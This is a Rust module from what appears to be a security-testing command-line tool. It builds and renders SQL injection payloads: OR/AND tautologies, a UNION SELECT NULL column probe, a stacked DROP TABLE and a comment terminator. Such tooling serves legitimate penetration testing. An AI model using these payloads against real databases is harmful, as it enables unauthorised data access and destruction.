//! Build and render injection payloads from command-line options

use tracing::debug;

use super::CliError;
use crate::{
    EmitterConfig, EscapeKind, Expr, Injection, Statement, convert::parse_json_expr,
};

/// Options for the inject command
#[derive(Debug, Clone, Default)]
pub struct InjectOptions {
    /// Syntactic context of the vulnerable parameter
    pub escape: EscapeKind,
    /// Seed value as JSON; the escape kind's placeholder when absent
    pub seed: Option<String>,
    /// Values OR-ed onto the payload, as JSON, in order
    pub or: Vec<String>,
    /// Values AND-ed onto the payload, as JSON, in order
    pub and: Vec<String>,
    /// Append `UNION SELECT NULL,...` with this many columns
    pub union_nulls: Option<usize>,
    /// Append a stacked `DROP TABLE`
    pub drop_table: Option<String>,
    /// Always end with the comment marker
    pub terminate: bool,
    /// Emitter options
    pub config: EmitterConfig,
}

/// Build the payload described by `options` and render it
pub fn execute_inject(options: &InjectOptions) -> Result<String, CliError> {
    let mut injection = match &options.seed {
        Some(seed) => Injection::with_seed(options.escape, parse_json_expr(seed)?),
        None => Injection::new(options.escape),
    };

    for value in &options.or {
        injection.or(parse_json_expr(value)?);
    }
    for value in &options.and {
        injection.and(parse_json_expr(value)?);
    }

    if let Some(columns) = options.union_nulls {
        let nulls: Vec<Expr> = (0..columns).map(|_| Expr::null()).collect();
        injection.union(Statement::select(nulls));
    }

    if let Some(table) = &options.drop_table {
        injection.push_statement(Statement::drop_table(table.as_str()));
    }

    debug!(escape = %options.escape, terminate = options.terminate, "rendering payload");
    Ok(injection.render(options.terminate, &options.config)?)
}
